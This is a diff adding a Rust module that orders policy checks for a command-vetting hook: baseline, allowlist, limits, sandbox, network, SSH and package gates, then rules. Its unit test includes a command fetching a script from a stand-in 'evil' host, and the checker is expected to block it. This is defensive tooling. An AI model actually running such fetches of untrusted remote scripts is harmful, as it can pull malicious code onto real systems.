@@ -0,0 +1,179 @@
+//! The order policies are checked in
+//!
+//! One configuration governs the hook, `--serve`, the MCP `check_command`
+//! tool, `--dry-run`, `--dry-run-file`, `--test-config` and `lint-script`
+//! (including the git pre-commit mode). All of them check a command through
+//! a `Policy`, so a command the hook stops is never reported as allowed
+//! elsewhere.
+//!
+//! The organization baseline comes first and nothing the project does lifts
+//! it. In default-deny mode, anything off the `[allowed]` list is refused
+//! next. Then an apply without a plan, a command over its budget, one
+//! reaching outside the sandbox, the network policy or the SSH allowlist, or
+//! a refused package install is caught before any rule is considered. Only
+//! then do the mappings and rules apply, to the command itself, to commands
+//! run over ssh, and to tools that belong inside a running container.
+//! Package installs, suggested or not, are finally pinned to their
+//! registries.
+
+use crate::allowlist::check_allowlist;
+use crate::baseline::check_baseline;
+use crate::container::container_match;
+use crate::iac::check_plan_gate;
+use crate::limits::check_limits;
+use crate::network::check_network;
+use crate::packages::{check_packages, pin_registries};
+use crate::rules::{CompiledRules, RuleContext, RuleMatch};
+use crate::sandbox::{check_sandbox, command_paths};
+use crate::ssh::{check_ssh_hosts, evaluate_remote_commands};
+use crate::types::{Config, IoContext, Result};
+use std::cell::OnceCell;
+use std::path::{Path, PathBuf};
+
+/// A configuration's policy in one context, ready to check any number of commands.
+pub struct Policy<'a> {
+    config: &'a Config,
+    context: RuleContext,
+    project_dir: PathBuf,
+    cwd: PathBuf,
+    /// Compiled the first time a command gets past the gates
+    rules: OnceCell<CompiledRules>,
+}
+
+impl<'a> Policy<'a> {
+    /// Builds the policy for commands run in `cwd` of the project at `project_dir`.
+    ///
+    /// # Arguments
+    /// * `config` - The project configuration
+    /// * `context` - Hook context; its `history` feeds `[limits]` and the plan gate
+    /// * `project_dir` - Root the `[sandbox]` is relative to
+    /// * `cwd` - Directory the commands run in
+    pub fn new(config: &'a Config, context: RuleContext, project_dir: &Path, cwd: &Path) -> Self {
+        Self {
+            config,
+            context,
+            project_dir: project_dir.to_path_buf(),
+            cwd: cwd.to_path_buf(),
+            rules: OnceCell::new(),
+        }
+    }
+
+    /// Builds the policy outside a session, for commands run in the current
+    /// directory: rules with `when` conditions or `requires` do not apply.
+    ///
+    /// # Returns
+    /// * `Err` - If the current directory can't be read
+    pub fn outside_session(config: &'a Config) -> Result<Self> {
+        let cwd = std::env::current_dir().io_context(|| "Failed to read the working directory".to_string())?;
+        Ok(Self::new(config, RuleContext::default(), &cwd, &cwd))
+    }
+
+    /// Checks a command against every policy, in the order the hook applies them.
+    ///
+    /// # Returns
+    /// * `Ok(Some(RuleMatch))` - The first match
+    /// * `Ok(None)` - If nothing objects to the command
+    /// * `Err` - If a pattern is not a valid regex or a sandbox root can't be resolved
+    pub fn evaluate(&self, command: &str) -> Result<Option<RuleMatch>> {
+        if let Some(rule_match) = self.check_baseline(command)? {
+            return Ok(Some(rule_match));
+        }
+        if let Some(rule_match) = self.check_gates(command)? {
+            return Ok(Some(rule_match));
+        }
+        self.check_rules(command)
+    }
+
+    /// Checks a command against the organization baseline, which nothing
+    /// the project configures can override.
+    pub fn check_baseline(&self, command: &str) -> Result<Option<RuleMatch>> {
+        check_baseline(self.config, command, &self.context, &self.cwd)
+    }
+
+    /// Checks a command against the project's gates: the allowlist, budgets,
+    /// the plan gate, the sandbox, and the network, SSH and package policies.
+    pub fn check_gates(&self, command: &str) -> Result<Option<RuleMatch>> {
+        let config = self.config;
+        let history = self.context.history.as_deref().unwrap_or_default();
+
+        let mut gate = check_allowlist(config, command);
+        if gate.is_none() {
+            gate = check_limits(&config.limits, history, command)?;
+        }
+        if gate.is_none() && config.iac.plan_before_apply {
+            gate = check_plan_gate(history, command)?;
+        }
+        if gate.is_none() {
+            gate = check_sandbox(&config.sandbox, &self.project_dir, &self.cwd, &command_paths(command))?;
+        }
+        if gate.is_none() {
+            gate = check_network(&config.network, command);
+        }
+        if gate.is_none() {
+            gate = check_ssh_hosts(&config.ssh, command);
+        }
+        if gate.is_none() {
+            gate = check_packages(&config.packages, command);
+        }
+        Ok(gate)
+    }
+
+    /// Checks a command that got past the gates against the mappings and rules.
+    pub fn check_rules(&self, command: &str) -> Result<Option<RuleMatch>> {
+        let config = self.config;
+        let rules = match self.rules.get() {
+            Some(rules) => rules,
+            None => {
+                let rules = CompiledRules::new(config, &self.context)?;
+                self.rules.get_or_init(|| rules)
+            }
+        };
+
+        let mut rule_match = rules.evaluate_with_alternatives(command, config.output.max_alternatives);
+        if rule_match.is_none() {
+            rule_match = evaluate_remote_commands(config, command, &self.context)?;
+        }
+        if rule_match.is_none() {
+            rule_match = container_match(&config.container, command, &|target| {
+                target.is_running(config.container.runtime)
+            })?;
+        }
+        Ok(pin_registries(&config.packages, command, rule_match))
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::types::Severity;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_gates_come_before_rules() {
+        let dir = TempDir::new().unwrap();
+        let config: Config = toml::from_str(
+            r#"
+[commands]
+curl = "wget"
+
+[network]
+allowed_hosts = ["example.com"]
+
+[ssh]
+allowed_hosts = ["build.example.com"]
+"#,
+        )
+        .unwrap();
+        let policy = Policy::new(&config, RuleContext::default(), dir.path(), dir.path());
+
+        let denied = policy.evaluate("curl https://evil.example.net/x.sh").unwrap().unwrap();
+        assert_eq!(denied.severity, Severity::Block);
+        assert!(denied.suggested_command.is_none(), "{denied:?}");
+        assert!(policy.evaluate("ssh prod.example.com uptime").unwrap().is_some());
+        assert_eq!(
+            policy.evaluate("curl https://example.com").unwrap().unwrap().suggested_command.as_deref(),
+            Some("wget https://example.com")
+        );
+        assert!(policy.evaluate("ls").unwrap().is_none());
+    }
+}